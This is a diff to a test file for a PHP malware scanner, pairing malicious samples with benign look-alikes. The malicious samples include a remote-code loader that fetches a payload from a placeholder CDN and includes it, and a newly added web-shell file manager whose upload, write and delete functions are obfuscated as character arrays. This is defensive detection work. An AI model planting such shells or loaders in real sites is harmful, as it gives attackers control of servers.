@@ -106,6 +106,11 @@ int c; while ((c = out.read()) != -1) back.write(c);
     '/srv/www/m.php',
     `<?php\nfunction pull($u) { $c = @file_get_contents($u); if ($c === false) { $h = curl_init(); curl_setopt($h, CURLOPT_URL, $u); curl_setopt($h, CURLOPT_RETURNTRANSFER, 1); $c = curl_exec($h); } return $c; }\n$url = "https://cdn.example.invalid/gh/x/y@main/z.txt";\n$code = pull($url);\nif ($code !== false) {\n  if (strpos($code, '<?php') === false) $code = "<?php\\n" . $code;\n  $tmp = tempnam(sys_get_temp_dir(), 'rc_');\n  file_put_contents($tmp, $code);\n  include $tmp;\n  unlink($tmp);\n}\n`,
   ],
+  [
+    'a file manager whose file functions are spelt as arrays of single characters, looked up by key (H45)',
+    '/srv/www/inv.php',
+    `<?php\nfunction fn_of($k) {\n  $map = [\n    'up' => ['m','o','v','e','_','u','p','l','o','a','d','e','d','_','f','i','l','e'],\n    'put' => ['f','i','l','e','_','p','u','t','_','c','o','n','t','e','n','t','s'],\n    'rm' => ['u','n','l','i','n','k'],\n    'ls' => ['s','c','a','n','d','i','r'],\n  ];\n  return implode('', $map[$k]);\n}\n$d = $_GET['d'] ?? '.';\nforeach (fn_of('ls')($d) as $f) echo htmlspecialchars($f), '<br>';\nif (isset($_FILES['f'])) fn_of('up')($_FILES['f']['tmp_name'], $d . '/' . $_FILES['f']['name']);\nif (isset($_POST['rm'])) fn_of('rm')($d . '/' . $_POST['rm']);\nif (isset($_POST['body'])) fn_of('put')($d . '/' . $_POST['name'], $_POST['body']);\n`,
+  ],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -113,6 +118,11 @@ const LOOKALIKES: [string, string, string][] = [
     'a template engine compiling a template to a temporary file and including it',
     '/srv/www/lib/view.php',
     `<?php\n// docs: https://www.example.com/view\nfunction render($name, array $vars) {\n  $src = file_get_contents(__DIR__ . '/views/' . basename($name) . '.tpl');\n  $php = preg_replace('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', '<?= htmlspecialchars($$1) ?>', $src);\n  $tmp = tempnam(sys_get_temp_dir(), 'view_');\n  file_put_contents($tmp, $php);\n  extract($vars);\n  include $tmp;\n  unlink($tmp);\n}\n`,
+  ],
+  [
+    'a captcha drawing characters picked from arrays of single letters',
+    '/srv/www/lib/captcha.php',
+    `<?php\n$vowels = ['a','e','i','o','u'];\n$consonants = ['b','c','d','f','g','h','k','m','n','p','r','s','t'];\n$digits = ['2','3','4','5','6','7','8','9'];\n$code = '';\nfor ($i = 0; $i < 6; $i++) $code .= $i % 2 ? $vowels[array_rand($vowels)] : $consonants[array_rand($consonants)];\n$_SESSION['captcha'] = $code . $digits[array_rand($digits)];\n`,
   ],
   [
     'a two-factor class decoding Base32 secrets beside a template that evals its compiled code',
@@ -235,14 +245,14 @@ describe('scan: session 43 samples, the misses written again', () => {
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every page', () => assert.equal(PAGES.length, 8));
+  it('ran every page', () => assert.equal(PAGES.length, 9));
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
       const r = scan(src, path);
       assert.notEqual(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 8));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 9));
   for (const [name, path, src] of VARIANTS) {
     it(`malicious: ${name}`, () => {
       const r = scan(src, path);
